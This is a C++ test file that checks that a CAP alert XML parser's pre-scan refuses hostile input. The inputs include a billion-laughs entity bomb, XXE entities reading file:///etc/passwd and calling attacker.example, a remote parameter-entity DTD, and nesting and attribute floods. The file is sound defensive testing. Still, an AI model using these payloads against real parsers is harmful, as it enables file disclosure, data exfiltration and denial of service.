// Hostile XML: each attack is refused by the linear pre-scan, before pugixml builds any tree
// (PrescanXml refusing it is the proof), and ParseAlert reports the same refusal.

#include <catch2/catch.hpp>

#include <string>

#include "cap/parser.h"
#include "cap/xml_prescan.h"

namespace vik::cap {
namespace {

PrescanLimits PrescanOf(const ParseLimits& l) { return {l.max_bytes, l.max_depth, l.max_elements, l.max_attributes}; }

// Refused by the pre-scan and by ParseAlert with `code`; returns the message.
std::string Refused(const std::string& xml, core::StatusCode code, const ParseLimits& limits = {}) {
  const auto pre = PrescanXml(xml, PrescanOf(limits));
  REQUIRE_FALSE(pre.ok());
  CHECK(pre.code() == code);
  const auto parsed = ParseAlert(xml, limits);
  REQUIRE_FALSE(parsed.ok());
  CHECK(parsed.status().code() == code);
  CHECK(parsed.status().message() == pre.message());
  return pre.message();
}

constexpr const char* kDoctypeMessage = "DOCTYPE is not allowed (entities are never declared or expanded)";

TEST_CASE("billion laughs is refused before any entity is declared", "[cap][attack]") {
  const std::string xml = R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>)";
  CHECK(Refused(xml, core::StatusCode::kInvalidArgument) == std::string("line 2: ") + kDoctypeMessage);
}

TEST_CASE("external entities (file and http) are refused", "[cap][attack]") {
  for (const char* system : {"file:///etc/passwd", "http://attacker.example/x"}) {
    INFO(system);
    const std::string xml = std::string(R"(<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM ")") + system +
                            R"(">]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&xxe;</note></alert>)";
    CHECK(Refused(xml, core::StatusCode::kInvalidArgument) == std::string("line 1: ") + kDoctypeMessage);
  }
}

TEST_CASE("parameter entities and external DTDs are refused", "[cap][attack]") {
  const std::string xml = R"(<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd" [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % dtd SYSTEM "http://attacker.example/send.dtd">
  %dtd;
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>)";
  CHECK(Refused(xml, core::StatusCode::kInvalidArgument) == std::string("line 2: ") + kDoctypeMessage);
}

TEST_CASE("DOCTYPE in any letter case and a bare ENTITY declaration are refused", "[cap][attack]") {
  CHECK(Refused("<!doctype alert><alert/>", core::StatusCode::kInvalidArgument) ==
        std::string("line 1: ") + kDoctypeMessage);
  CHECK(Refused("<alert>\n<!ENTITY x \"y\"></alert>", core::StatusCode::kInvalidArgument) ==
        "line 2: ENTITY declaration is not allowed (entities are never declared or expanded)");
  CHECK(Refused("<alert><!ELEMENT alert ANY></alert>", core::StatusCode::kInvalidArgument) ==
        "line 1: markup declaration '<!ELEMENT' is not allowed");
}

TEST_CASE("DOCTYPE-like text inside comments, CDATA and attribute values is only text", "[cap][attack]") {
  const std::string xml = R"(<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2" a="<!DOCTYPE x>">
<!-- <!DOCTYPE x> --><note><![CDATA[<!ENTITY y "z">]]></note></alert>)";
  CHECK(PrescanXml(xml, PrescanOf({})).ok());
  const auto r = ParseAlert(xml);
  REQUIRE(r.ok());
  CHECK(r->note == R"(<!ENTITY y "z">)");
}

TEST_CASE("an oversized document (64 MiB) is refused by its size alone", "[cap][attack]") {
  std::string xml = R"(<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>)";
  xml.resize(64u << 20, 'a');
  CHECK(Refused(xml, core::StatusCode::kResourceExhausted) == "document is 67108864 bytes (limit 1048576)");
}

TEST_CASE("10,000-deep nesting is refused", "[cap][attack]") {
  std::string xml;
  for (int i = 0; i < 10000; ++i) {
    xml += "<a>";
  }
  for (int i = 0; i < 10000; ++i) {
    xml += "</a>";
  }
  CHECK(Refused(xml, core::StatusCode::kResourceExhausted) == "line 1: elements nested more than 32 deep");
}

TEST_CASE("a million elements are refused", "[cap][attack]") {
  std::string xml = R"(<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">)";
  for (int i = 0; i < 1000000; ++i) {
    xml += "<a/>";
  }
  xml += "</alert>";
  // By size with the default limits; by count when the size limit would let it through.
  CHECK(Refused(xml, core::StatusCode::kResourceExhausted).rfind("document is ", 0) == 0);
  ParseLimits roomy;
  roomy.max_bytes = 64u << 20;
  CHECK(Refused(xml, core::StatusCode::kResourceExhausted, roomy) == "line 1: more than 20000 elements");
}

TEST_CASE("an attribute flood is refused", "[cap][attack]") {
  std::string xml = R"(<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2")";
  for (int i = 0; i < 10000; ++i) {
    xml += " a" + std::to_string(i) + "=\"x\"";
  }
  xml += "/>";
  CHECK(Refused(xml, core::StatusCode::kResourceExhausted) == "line 1: an element has more than 64 attributes");
}

TEST_CASE("unterminated markup is refused by the pre-scan", "[cap][attack]") {
  CHECK(Refused("<alert><!-- never closed", core::StatusCode::kInvalidArgument) == "line 1: unterminated comment");
  CHECK(Refused("<alert a=\"never closed>", core::StatusCode::kInvalidArgument) == "line 1: unterminated start tag");
  CHECK(Refused("<?xml version='1.0'", core::StatusCode::kInvalidArgument) ==
        "line 1: unterminated processing instruction");
  CHECK(Refused("<alert><![CDATA[x", core::StatusCode::kInvalidArgument) == "line 1: unterminated CDATA section");
}

TEST_CASE("an undeclared entity reference is never expanded", "[cap][attack]") {
  const auto r = ParseAlert(R"(<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>a&xxe;b</note></alert>)");
  if (r.ok()) {
    CHECK(r->note == "a&xxe;b");
  }
}

}  // namespace
}  // namespace vik::cap

TEST_CASE("character references and raw control bytes XML does not allow are refused", "[cap][attack]") {
  const std::string head = "<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"><identifier>";
  for (const std::string bad : {"abc&#0;xyz", "abc&#x0;xyz", "a&#1;b", "a&#x1F;b", "a&#xD800;b", "a&#xFFFE;b",
                                "a&#1114112;b", "a&#12345678901;b",
                                "a\x01"
                                "b",
                                "a\x1b"
                                "b"}) {
    const auto r = vik::cap::ParseAlert(head + bad + "</identifier></alert>");
    INFO(bad);
    REQUIRE_FALSE(r.ok());
    CHECK(r.status().code() == vik::core::StatusCode::kInvalidArgument);
  }
  // Allowed references still decode.
  const auto ok = vik::cap::ParseAlert(head + "caf&#233;&#x9;x</identifier></alert>");
  CHECK((ok.ok() || ok.status().message().find("character reference") == std::string::npos));
}
